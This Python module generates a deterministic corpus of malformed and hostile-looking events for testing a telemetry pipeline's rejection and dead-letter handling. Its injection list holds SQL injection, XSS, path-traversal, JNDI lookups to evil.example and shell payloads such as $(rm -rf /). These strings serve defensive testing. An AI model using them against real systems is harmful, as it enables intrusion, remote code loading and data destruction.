"""Deterministic hostile-input corpus: ≥10k malformed events mixed with valid (some hostile-looking) events in envelopes.

Every bad event carries a unique marker (`bad-NNNNNN`) inside its bytes, early enough to survive the DLQ's
4 KiB truncation, so a test can find each one in the DLQ whatever the pipeline did to it. Every valid event is
identified by its event_id. Expected reason codes are the machine-readable codes of pipeline/common/rejects.py
(spelled out here as literals: the corpus must not trust the code under test).
"""

from __future__ import annotations

import datetime as dt
import random
import re
from dataclasses import dataclass, field

import orjson

from pipeline.generate import TelemetryGenerator

MARKER = re.compile(rb"bad-\d{6}")
NOT_JSON = "envelope_not_json"
NOT_OBJECT = "event_not_object"
SCHEMA = "schema_violation"
BAD_TIME = "bad_timestamp"
OUT_OF_RANGE = "time_out_of_range"
INVALID_IP = "invalid_ip"
INVALID_VALUE = "invalid_value"
TOO_LARGE = "envelope_too_large"

INJECTIONS = [
    "'; DROP TABLE events; --", "' OR '1'='1", "\" OR 1=1 --", "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>", "javascript:alert(1)", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "/dev/null", "%s%s%s%n%x%p", "{0.__class__.__mro__}", "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:rmi://x/y}", "{{7*7}}", "$(rm -rf /)", "`id`", "\u0000nul\u0000byte", "\u202eRTL override",
    "line\nbreak\r\nand\ttab", "😀👍🏽 emoji", "A" * 100,
]
PRIVATE_OR_RESERVED_IPS = [
    "10.0.0.1", "10.255.255.254", "172.16.5.4", "192.168.1.20", "127.0.0.1", "169.254.10.10", "0.0.0.0",
    "255.255.255.255", "100.64.1.1", "192.0.2.55", "198.51.100.7", "203.0.113.9", "240.0.0.1",
    "::1", "::", "fc00::1", "fd12:3456::1", "fe80::1", "2001:db8::1", "::ffff:10.0.0.1",
    "::ffff:127.0.0.1",
]
# Multicast is never a client address, but Python's is_global says True for it: pinned separately by
# test_reliability_kernel.py (a known bug), kept out of this list so the end-to-end test checks everything else.
MULTICAST_IPS = ["224.0.0.1", "239.255.255.250", "ff02::1", "ff0e::1"]
INVALID_IPS = ["999.1.2.3", "1.2.3", "1.2.3.4.5", "abc", "256.256.256.256", "1.2.3.-4", "::g", "12345::1",
               "1.2.3.4/24", "<script>", "${jndi:ldap://x}", "localhost", "0x7f.1", "  "]


@dataclass
class BadEvent:
    marker: str
    kind: str
    line: bytes
    codes: frozenset[str]  # any of these codes is a correct verdict


@dataclass
class Corpus:
    envelopes: list[bytes]
    valid_ids: list[str]
    bad: list[BadEvent]
    unknown_field_values: list[str] = field(default_factory=list)  # must never reach the lake (dropped fields)
    hostile_valid_ids: list[str] = field(default_factory=list)

    @property
    def bad_by_marker(self) -> dict[str, BadEvent]:
        return {b.marker: b for b in self.bad}


class _Builder:
    def __init__(self, seed: int, end: dt.datetime, max_bad_depth: int = 250, first_marker: int = 0):
        self.max_bad_depth = max_bad_depth
        self.rng = random.Random(seed)
        self.generator = TelemetryGenerator(seed, end=end, hours=6)
        self.end = end
        self.count = first_marker
        self.unknown_values: list[str] = []

    def marker(self) -> str:
        self.count += 1
        return f"bad-{self.count:06d}"

    # ---- bad events derived from a good one; the marker rides in an unknown field (kept in the DLQ's raw) -----
    def derived(self, good: dict) -> tuple[str, bytes, frozenset[str]]:
        event = orjson.loads(orjson.dumps(good))
        mark = self.marker()
        event = {"corpus_marker": mark, **event}
        kind, codes = self.rng.choice(self.MUTATIONS)(self, event)
        return kind, mark, expand_deep(orjson.dumps(event)), codes

    def _missing(self, e):
        del e[self.rng.choice(["event_id", "event_type", "occurred_at", "app", "device_id", "ip"])]
        return "missing_required", {SCHEMA}

    def _wrong_type(self, e):
        field_name, value = self.rng.choice([
            ("event_id", 12345678), ("event_type", ["login"]), ("occurred_at", 1700000000), ("app", "2.4.1"),
            ("device_id", None), ("ip", 16843009), ("user_id", {"id": 1}), ("geo", [51.1, 71.4]),
            ("device", "Samsung"), ("properties", "screen=home"), ("text", 42), ("user_agent", True),
            ("session_id", 3.5), ("cookie_id", [])])
        e[field_name] = value
        return "wrong_type", {SCHEMA}

    def _nested_type(self, e):
        choice = self.rng.randrange(5)
        if choice == 0:
            e["geo"] = {"lat": "51.1", "lon": 71.4}
        elif choice == 1:
            e["app"] = {"version": 2, "platform": "android"}
        elif choice == 2:
            e["properties"] = {"screen": {"nested": {"deeper": [1, 2, 3]}}}
        elif choice == 3:
            e["device"] = {"screen": "../../etc/passwd"}
        else:
            e["properties"] = {f"k{i}": i for i in range(40)}  # more keys than the contract allows
        return "nested_wrong_type", {SCHEMA}

    def _oversize_string(self, e):
        field_name, limit = self.rng.choice([("user_agent", 1024), ("text", 4000), ("device_id", 128),
                                             ("user_id", 128), ("session_id", 128), ("cookie_id", 256),
                                             ("event_id", 64), ("occurred_at", 40)])
        e[field_name] = (self.rng.choice(INJECTIONS) * 200)[: limit + 1 + self.rng.randrange(3000)].ljust(limit + 1, "x")
        return "oversize_string", {SCHEMA}

    def _bad_enum_or_pattern(self, e):
        field_name, value = self.rng.choice([
            ("event_type", "'; DROP TABLE events; --"), ("event_type", "purchase"),
            ("app", {"version": "${jndi:ldap://x/a}", "platform": "ios"}),
            ("app", {"version": "2.4.1", "platform": "<script>"}), ("event_id", "../../etc/passwd"),
            ("event_id", "%s%n"), ("event_id", "short"), ("schema_version", 2),
            ("device", {"network": "carrier-pigeon"})])
        e[field_name] = value
        return "bad_enum_or_pattern", {SCHEMA}

    def _invalid_ip(self, e):
        e["ip"] = self.rng.choice(INVALID_IPS)
        # "  " and "<script>"-like strings may fail minLength/maxLength first: both verdicts are right
        return "invalid_ip", {INVALID_IP, SCHEMA}

    def _private_ip(self, e):
        e["ip"] = self.rng.choice(PRIVATE_OR_RESERVED_IPS)
        return "private_ip", {INVALID_IP}

    def _coordinates(self, e):
        lat, lon = self.rng.choice([(91.0, 71.4), (-90.5, 0.0), (51.1, 180.01), (51.1, -181.0), (1e308, 1e308),
                                    (-1e308, 0.0), (1e39, 71.4)])
        e["geo"] = {"lat": lat, "lon": lon, "accuracy_m": 10.0}
        return "coordinates_out_of_range", {SCHEMA, INVALID_VALUE}

    def _bad_accuracy(self, e):
        e["geo"] = {"lat": 51.1, "lon": 71.4, "accuracy_m": self.rng.choice([-1.0, 1e12, "10m"])}
        return "bad_accuracy", {SCHEMA, INVALID_VALUE}

    def _far_time(self, e):
        e["occurred_at"] = self.rng.choice([
            "2099-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00", "1970-01-01T00:00:00Z",
            "0001-01-01T00:00:00+00:00", "2000-02-29T12:00:00+05:00",
            (self.end + dt.timedelta(days=2)).isoformat(), (self.end - dt.timedelta(days=400)).isoformat()])
        return "time_far_away", {OUT_OF_RANGE}

    def _bad_time(self, e):
        e["occurred_at"] = self.rng.choice([
            "yesterday", "2024-13-01T00:00:00Z", "2024-02-30T00:00:00+00:00", "2024-01-01T00:00:00",
            "2024-01-01T25:00:00+00:00", "2024-01-01T00:00:00+24:00", "%s%s%s%s", "${jndi:ldap://t/x}",
            "1700000000", "", "2024-01-01T00:00:00+05:00 OR 1=1"])
        return "bad_timestamp", {SCHEMA, BAD_TIME}

    def _deep_known(self, e):
        # Deep but parseable. Beyond ~250 levels the pipeline cannot re-serialize the event for the DLQ (orjson
        # writes at most 255 levels): that bug is pinned by test_reliability_kernel.py, not by this corpus.
        e["properties"] = {"screen": DEEP_PLACEHOLDER % self.rng.randrange(50, self.max_bad_depth)}
        return "deep_nesting_in_known_field", {SCHEMA}

    MUTATIONS = (_missing, _wrong_type, _nested_type, _oversize_string, _bad_enum_or_pattern, _invalid_ip,
                 _private_ip, _coordinates, _bad_accuracy, _far_time, _bad_time, _deep_known)

    # ---- bad lines that are not JSON (or not an object) ---------------------------------------------------------
    def not_json(self, good: dict) -> tuple[str, str, bytes, frozenset[str]]:
        mark = self.marker()
        head = b'{"corpus_marker":"%s",' % mark.encode()
        body = orjson.dumps(good)[1:]
        kind = self.rng.randrange(10)
        if kind == 0:
            return "truncated_json", mark, head + body[: self.rng.randrange(0, 60)], frozenset({NOT_JSON})
        if kind == 1:
            return "nan_token", mark, head + b'"geo":{"lat":NaN,"lon":71.4},' + body, frozenset({NOT_JSON})
        if kind == 2:
            return "infinity_token", mark, head + b'"geo":{"lat":-Infinity,"lon":71.4},' + body, frozenset({NOT_JSON})
        if kind == 3:
            bad_bytes = self.rng.choice([b"\xff\xfe", b"\xc3\x28", b"\xa0\xa1", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"])
            return "invalid_utf8", mark, head + b'"user_agent":"Mozilla' + bad_bytes + b'",' + body, frozenset({NOT_JSON})
        if kind == 4:
            return "lone_surrogate", mark, head + b'"text":"\\ud800 alone",' + body, frozenset({NOT_JSON})
        if kind == 5:
            depth = self.rng.randrange(1100, 3000)
            return "nesting_beyond_parser_limit", mark, head + b'"x":' + b"[" * depth + b"]" * depth + b"," + body, \
                frozenset({NOT_JSON})
        if kind == 6:
            return "single_quotes", mark, b"{'corpus_marker': '%s', 'event_id': 'x'}" % mark.encode(), frozenset({NOT_JSON})
        if kind == 7:
            return "trailing_comma", mark, head + body[:-1] + b",}", frozenset({NOT_JSON})
        if kind == 8:
            payload = self.rng.choice([b"<xml>", b"DROP TABLE x;", b"\x00\x01\x02", b"%s%n", b"${jndi:ldap://x}"])
            return "garbage", mark, payload + b" " + mark.encode(), frozenset({NOT_JSON})
        return "big_number_overflow", mark, head + b'"geo":{"lat":1e400,"lon":1},' + body, frozenset({NOT_JSON})

    def not_object(self) -> tuple[str, str, bytes, frozenset[str]]:
        mark = self.marker()
        line = self.rng.choice([b'["%s", 1, 2]', b'"%s"', b'[["%s"]]'])
        return "not_an_object", mark, line % mark.encode(), frozenset({NOT_OBJECT})

    # ---- valid events that look hostile, carry unknown fields, or sit at the edges of the contract ------------
    def hostile_valid(self, good: dict) -> dict:
        event = orjson.loads(orjson.dumps(good))
        injection = self.rng.choice(INJECTIONS)
        target = self.rng.choice(["user_id", "device_id", "session_id", "cookie_id", "user_agent", "text"])
        event[target] = injection[:128]
        unknown = f"UNKNOWN-FIELD-VALUE-{self.rng.getrandbits(48):012x}"
        self.unknown_values.append(unknown)
        event["unknown_field"] = unknown
        event["nested_unknown"] = {"deep": [{"x": unknown}], "depth": DEEP_PLACEHOLDER % self.rng.randrange(10, 1000)}
        event["email"] = f"{unknown.lower()}@example.com"
        event["properties"] = {**(event.get("properties") or {}), "secret_note": unknown}
        if self.rng.random() < 0.3:
            event["geo"] = {"lat": 90.0 if self.rng.random() < 0.5 else -90.0, "lon": 180.0, "accuracy_m": 0}
        return event


DEEP_PLACEHOLDER = "__deep_%d__"
_DEEP = re.compile(rb'"__deep_(\d+)__"')


def expand_deep(line: bytes) -> bytes:
    """Replace placeholders by objects nested N deep (built as bytes: orjson refuses to write beyond 255 levels)."""
    return _DEEP.sub(lambda m: b'{"d":' * int(m.group(1)) + b'"leaf"' + b"}" * int(m.group(1)), line)


def build_corpus(seed: int = 8, *, end: dt.datetime, valid: int = 2000, bad: int = 10_000,
                 envelopes: int = 20, oversize_envelope: bool = True, max_bad_depth: int = 250,
                 first_marker: int = 0, long_text: int = 0) -> Corpus:
    """`valid` good events (a tenth of them hostile-looking but valid) and `bad` bad ones, shuffled into envelopes.

    Each NDJSON envelope starts with a valid event (a first line starting with '[' would make the whole
    envelope parse as a JSON array: see the report), then a deterministic shuffle of the rest.
    """
    builder = _Builder(seed, end, max_bad_depth, first_marker)
    goods = list(builder.generator.events(valid))
    templates = goods[:200]
    valid_ids, hostile_ids, good_lines = [], [], []
    for i, event in enumerate(goods):
        if i % 10 == 3:
            event = builder.hostile_valid(event)
            hostile_ids.append(event["event_id"])
        if long_text:  # valid but as long as the contract allows: big envelopes, big output batches
            event["text"] = ("Жалоба: " + " ".join(INJECTIONS[:12]) + " ") * (long_text // 200 + 1)
            event["text"] = event["text"][:long_text]
        valid_ids.append(event["event_id"])
        good_lines.append(expand_deep(orjson.dumps(event)))
    bad_events: list[BadEvent] = []
    for i in range(bad):
        template = builder.rng.choice(templates)
        roll = builder.rng.random()
        if roll < 0.25:
            kind, mark, line, codes = builder.not_json(template)
        elif roll < 0.28:
            kind, mark, line, codes = builder.not_object()
        else:
            kind, mark, line, codes = builder.derived(template)
        bad_events.append(BadEvent(mark, kind, line, frozenset(codes)))
    rng = builder.rng
    firsts, rest_good = good_lines[:envelopes], good_lines[envelopes:]
    rest = [line for line in rest_good] + [b.line for b in bad_events]
    rng.shuffle(rest)
    per = -(-len(rest) // envelopes)
    out = [b"\n".join([first, *rest[i * per:(i + 1) * per]]) for i, first in enumerate(firsts)]
    if oversize_envelope:
        mark = builder.marker()
        big = b'{"corpus_marker":"%s","pad":"' % mark.encode() + b"x" * (9 * 1024 * 1024) + b'"}'
        bad_events.append(BadEvent(mark, "oversize_envelope", big, frozenset({TOO_LARGE})))
        out.insert(len(out) // 2, big)
    return Corpus(out, valid_ids, bad_events, builder.unknown_values, hostile_ids)


def markers_in(raw: bytes) -> list[str]:
    return [m.decode() for m in MARKER.findall(raw)]


def merge(*parts: Corpus) -> Corpus:
    """One corpus from several (their markers must not overlap: give each a different `first_marker`)."""
    merged = Corpus([], [], [])
    for part in parts:
        merged.envelopes += part.envelopes
        merged.valid_ids += part.valid_ids
        merged.bad += part.bad
        merged.unknown_field_values += part.unknown_field_values
        merged.hostile_valid_ids += part.hostile_valid_ids
    return merged
